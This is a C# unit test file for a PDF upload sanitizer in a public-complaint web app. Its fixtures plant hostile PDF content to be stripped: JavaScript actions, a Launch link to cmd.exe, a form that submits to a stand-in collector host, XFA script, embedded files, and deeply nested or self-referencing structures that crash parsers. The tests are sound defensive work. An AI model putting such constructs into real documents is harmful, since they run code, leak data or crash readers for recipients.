using System.Globalization;
using System.Text;
using Lapor.UnitTests.Support;
using Lapor.Web.Infrastructure.Storage;
using UglyToad.PdfPig.Actions;
using UglyToad.PdfPig.Annotations;
using PigDocument = UglyToad.PdfPig.PdfDocument;

namespace Lapor.UnitTests.Infrastructure;

public sealed class PdfSanitizerTests
{
    private const string Canary = "CANARY-AUTHOR-5E1B";
    private const string PageText = "Jalan rusak di depan pasar";

    /// <summary>
    /// One page with text, a planted author (Info and XMP), JavaScript on open, on page view and in the
    /// names tree, an attached file (names tree and a FileAttachment annotation), a Launch link, a form
    /// button that submits to another server, XFA, a comment signed with the author's name and a web
    /// link whose action chain ends in JavaScript.
    /// </summary>
    private static readonly byte[] BoobyTrapped = RawPdf.Build(
    [
        "<< /Type /Catalog /Pages 2 0 R /Metadata 5 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /JavaScript 7 0 R /EmbeddedFiles 9 0 R >> /AcroForm 12 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        RawPdf.Page(2, 8, 4, "/Annots [11 0 R 13 0 R 14 0 R 15 0 R 16 0 R] /AA << /O 6 0 R >>"),
        RawPdf.Helvetica,
        RawPdf.Stream("/Type /Metadata /Subtype /XML", $"<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><dc:creator>{Canary}</dc:creator></x:xmpmeta>"),
        "<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>",
        "<< /Names [(mulai) 6 0 R] >>",
        RawPdf.Text(PageText),
        "<< /Names [(rahasia.txt) 10 0 R] >>",
        "<< /Type /Filespec /F (rahasia.txt) /EF << /F 17 0 R >> >>",
        "<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /A << /S /Launch /F (cmd.exe) >> >>",
        "<< /Fields [13 0 R] /XFA 18 0 R >>",
        "<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (kirim) /Rect [72 500 200 530] /P 3 0 R /A << /S /SubmitForm /F << /FS /URL /F (https://pengumpul.example/ambil) >> >> /AA << /E 6 0 R >> >>",
        "<< /Type /Annot /Subtype /FileAttachment /Rect [72 400 92 420] /FS 10 0 R /Contents (lampiran) >>",
        $"<< /Type /Annot /Subtype /Text /Rect [72 300 92 320] /T ({Canary}) /Contents (Catatan) >>",
        "<< /Type /Annot /Subtype /Link /Rect [72 200 300 220] /A << /S /URI /URI (https://www.lapor.go.id/) /Next 6 0 R >> >>",
        RawPdf.Stream("/Type /EmbeddedFile", $"berkas lain dari {Canary}"),
        RawPdf.Stream("", $"<xdp:xdp><script>app.alert(1)</script><data>{Canary}</data></xdp:xdp>"),
        $"<< /Author ({Canary}) /Creator (Microsoft Word {Canary}) /Producer (Acrobat {Canary}) /Title (Laporan {Canary}) >>",
    ], trailer: "/Info 19 0 R /ID [<0123456789ABCDEF0123456789ABCDEF> <0123456789ABCDEF0123456789ABCDEF>]");

    [Fact]
    public void Rewrite_PlantedAuthor_IsGoneFromInfoXmpAndEveryByte()
    {
        Assert.Contains(Canary, Latin1(BoobyTrapped), StringComparison.Ordinal);

        var clean = Rewritten(BoobyTrapped);

        Assert.DoesNotContain(Canary, Latin1(clean), StringComparison.Ordinal);
        Assert.DoesNotContain("0123456789ABCDEF", Latin1(clean), StringComparison.OrdinalIgnoreCase);
        using var pdf = PigDocument.Open(clean);
        Assert.True(string.IsNullOrEmpty(pdf.Information.Author));
        Assert.DoesNotContain(Canary, pdf.Information.Producer ?? "", StringComparison.Ordinal);
        Assert.DoesNotContain(Canary, pdf.Information.Creator ?? "", StringComparison.Ordinal);
        Assert.True(string.IsNullOrEmpty(pdf.Information.Title));
        if (pdf.TryGetXmpMetadata(out var xmp))
        {
            Assert.DoesNotContain(Canary, Encoding.UTF8.GetString(xmp.GetXmlBytes().ToArray()), StringComparison.Ordinal);
        }
    }

    [Theory]
    [InlineData("/JavaScript")]
    [InlineData("/JS")]
    [InlineData("/OpenAction")]
    [InlineData("/AA")]
    [InlineData("/Launch")]
    [InlineData("/SubmitForm")]
    [InlineData("/XFA")]
    [InlineData("/EmbeddedFile")]
    [InlineData("/FileAttachment")]
    public void Rewrite_ActiveContentAndAttachedFiles_LeaveNoTrace(string name)
    {
        Assert.Contains(name, Latin1(BoobyTrapped), StringComparison.Ordinal);

        Assert.DoesNotContain(name, Latin1(Rewritten(BoobyTrapped)), StringComparison.Ordinal);
    }

    [Fact]
    public void Rewrite_KeepsPagesTextFormFieldsAndWebLinks()
    {
        using var pdf = PigDocument.Open(Rewritten(BoobyTrapped));

        Assert.Equal(1, pdf.NumberOfPages);
        var page = pdf.GetPage(1);
        Assert.Contains(PageText, page.Text, StringComparison.Ordinal);
        var annotations = page.GetAnnotations().ToList();
        Assert.DoesNotContain(annotations, a => a.Type == AnnotationType.FileAttachment);
        Assert.Contains(annotations, a => a.Type == AnnotationType.Widget);
        Assert.Contains(annotations, a => a.Action is UriAction { Uri: "https://www.lapor.go.id/" });
        Assert.All(annotations, a => Assert.True(a.Action is null or UriAction, $"{a.Type}: {a.Action?.Type}"));
        Assert.False(pdf.Advanced.TryGetEmbeddedFiles(out var files) && files.Count > 0);
    }

    [Fact]
    public void Rewrite_AuthorInAnEarlierRevision_IsNotCarriedOver()
    {
        var first = RawPdf.Build(
            ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", RawPdf.Page(2, 5, 4), RawPdf.Helvetica, RawPdf.Text(PageText), $"<< /Author ({Canary}) >>"],
            trailer: "/Info 6 0 R");
        var second = RawPdf.Update(first, 6, "<< /Title (Versi kedua) >>", size: 7, trailer: "/Info 6 0 R");

        var clean = Rewritten(second);

        Assert.Contains(Canary, Latin1(second), StringComparison.Ordinal);
        Assert.DoesNotContain(Canary, Latin1(clean), StringComparison.Ordinal);
        Assert.DoesNotContain("Versi kedua", Latin1(clean), StringComparison.Ordinal);
        using var pdf = PigDocument.Open(clean);
        Assert.Contains(PageText, pdf.GetPage(1).Text, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("/DCTDecode")]
    [InlineData("[ /DCTDecode ]")] // as ImageMagick writes it
    public void Rewrite_PhotoPlacedInThePdf_LosesItsExif(string filter)
    {
        var photo = JpegMetadataTests.PhotoWithExif(Canary);
        var image = $"<< /Type /XObject /Subtype /Image /Width 40 /Height 30 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter {filter} /Length {photo.Length} >>\nstream\n{Latin1(photo)}\nendstream";
        var scan = RawPdf.Build(
        [
            "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im1 5 0 R >> >> /Contents 4 0 R >>",
            RawPdf.Stream("", "q 400 0 0 300 72 400 cm /Im1 Do Q"), image,
        ]);

        var clean = Rewritten(scan);

        Assert.Contains(Canary, Latin1(scan), StringComparison.Ordinal);
        Assert.DoesNotContain(Canary, Latin1(clean), StringComparison.Ordinal);
        using var pdf = PigDocument.Open(clean);
        Assert.Single(pdf.GetPage(1).GetImages());
    }

    [Fact]
    public void Rewrite_PasswordProtected_IsRefusedSayingSo()
    {
        using var document = new PdfSharp.Pdf.PdfDocument();
        document.AddPage();
        document.Info.Author = Canary;
        document.SecuritySettings.UserPassword = "rahasia";
        using var encrypted = new MemoryStream();
        document.Save(encrypted);

        var result = PdfSanitizer.Rewrite(encrypted.ToArray());

        Assert.Null(result.Pdf);
        Assert.Equal(PdfSanitizer.ProtectedKey, result.RefusalKey);
    }

    public static TheoryData<string> Damaged => new()
    {
        "%PDF-1.7\nthis is not a PDF at all",
        "%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF",
        Latin1(BoobyTrapped)[..(BoobyTrapped.Length / 3)],
    };

    [Theory]
    [MemberData(nameof(Damaged))]
    public void Rewrite_DamagedFile_IsRefusedAsUnreadable(string content)
    {
        var result = PdfSanitizer.Rewrite(Encoding.Latin1.GetBytes(content));

        Assert.Null(result.Pdf);
        Assert.Equal(PdfSanitizer.UnreadableKey, result.RefusalKey);
    }

    /// <summary>
    /// Files that, before the guard, crashed the whole test host with a stack overflow (PDFsharp's
    /// recursive parser and page-tree flattening) or made PDFsharp loop for ever: each is now refused.
    /// </summary>
    public static TheoryData<string, byte[]> Hostile => new()
    {
        { "arrays nested 20,000 deep", WithObject(new string('[', 20_000) + new string(']', 20_000)) },
        { "dictionaries nested 20,000 deep", WithObject(string.Concat(Enumerable.Repeat("<< /A ", 20_000)) + string.Concat(Enumerable.Repeat(">> ", 20_000))) },
        { "a page tree that contains itself", RawPdf.Build(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>", RawPdf.Page(2, 4, 5), RawPdf.Text(PageText), RawPdf.Helvetica]) },
        { "nesting hidden in a compressed object stream", WithObject(ObjectStream(new string('[', 5_000))) },
        { "a hex string open at the end of the file", HexStringOpenAtTheEnd() },
    };

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Rewrite_FileThatWouldCrashOrHangPdfSharp_IsRefused(string what, byte[] pdf)
    {
        var result = PdfSanitizer.Rewrite(pdf);

        Assert.True(result.Pdf is null, what);
        Assert.Equal(PdfSanitizer.UnreadableKey, result.RefusalKey);
    }

    [Fact]
    public void Rewrite_StreamLengthsPointingAtEachOther_AreReadWithoutRecursion()
    {
        // 3,000 streams, each with its /Length in the next one: PDFsharp resolved them by recursion and overflowed the stack.
        List<string> objects = ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", RawPdf.Page(2, 4, 5), RawPdf.Text(PageText).Replace("/Length", "/Length 6 0 R /X", StringComparison.Ordinal), RawPdf.Helvetica];
        objects.AddRange(Enumerable.Range(7, 3_000).Select(next => $"<< /Length {next} 0 R >>\nstream\nabc\nendstream"));
        objects.Add("3");

        using var pdf = PigDocument.Open(Rewritten(RawPdf.Build(objects)));

        Assert.Contains(PageText, pdf.GetPage(1).Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Inspect_Pdf_StoresTheRewrittenFileAndItsHash()
    {
        var verdict = await new UploadInspector().InspectAsync(new MemoryStream(BoobyTrapped), CancellationToken.None);

        var upload = Assert.IsType<InspectedUpload>(verdict.Upload);
        Assert.Equal(("application/pdf", ".pdf"), (upload.ContentType, upload.Extension));
        Assert.DoesNotContain(Canary, Latin1(upload.Content), StringComparison.Ordinal);
        Assert.Equal(Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(upload.Content)), upload.Sha256);
    }

    [Fact]
    public async Task Inspect_GarbagePdf_CarriesTheReasonToShow()
    {
        var verdict = await new UploadInspector().InspectAsync(new MemoryStream("%PDF-1.7 rusak"u8.ToArray()), CancellationToken.None);

        Assert.Null(verdict.Upload);
        Assert.Equal(PdfSanitizer.UnreadableKey, verdict.RefusalKey);
    }

    /// <summary>A one-page file whose catalog also points at object 6, <paramref name="body"/>.</summary>
    private static byte[] WithObject(string body) => RawPdf.Build(
        ["<< /Type /Catalog /Pages 2 0 R /Extra 6 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", RawPdf.Page(2, 4, 5), RawPdf.Text(PageText), RawPdf.Helvetica, body]);

    /// <summary>An object stream holding one object, <paramref name="content"/>, deflated.</summary>
    private static string ObjectStream(string content)
    {
        using var zipped = new MemoryStream();
        using (var zlib = new System.IO.Compression.ZLibStream(zipped, System.IO.Compression.CompressionLevel.Optimal, leaveOpen: true))
        {
            zlib.Write(Encoding.Latin1.GetBytes("7 0 " + content));
        }

        return $"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {zipped.Length} >>\nstream\n{Latin1(zipped.ToArray())}\nendstream";
    }

    /// <summary>Object 4 moved past %%EOF as "&lt;AB" with nothing after it, the cross-reference table pointing there.</summary>
    private static byte[] HexStringOpenAtTheEnd()
    {
        var text = Latin1(WithObject("(x)"));
        var entry = text.IndexOf("0000000000 65535 f \n", StringComparison.Ordinal) + 20 + (6 - 1) * 20;
        text = text[..entry] + text.Length.ToString("D10", CultureInfo.InvariantCulture) + text[(entry + 10)..] + "6 0 obj\n<AB";
        return Encoding.Latin1.GetBytes(text);
    }

    private static byte[] Rewritten(byte[] pdf) => PdfSanitizer.Rewrite(pdf).Pdf ?? throw new InvalidOperationException(PdfSanitizer.Rewrite(pdf).RefusalKey);

    private static string Latin1(byte[] bytes) => Encoding.Latin1.GetString(bytes);
}
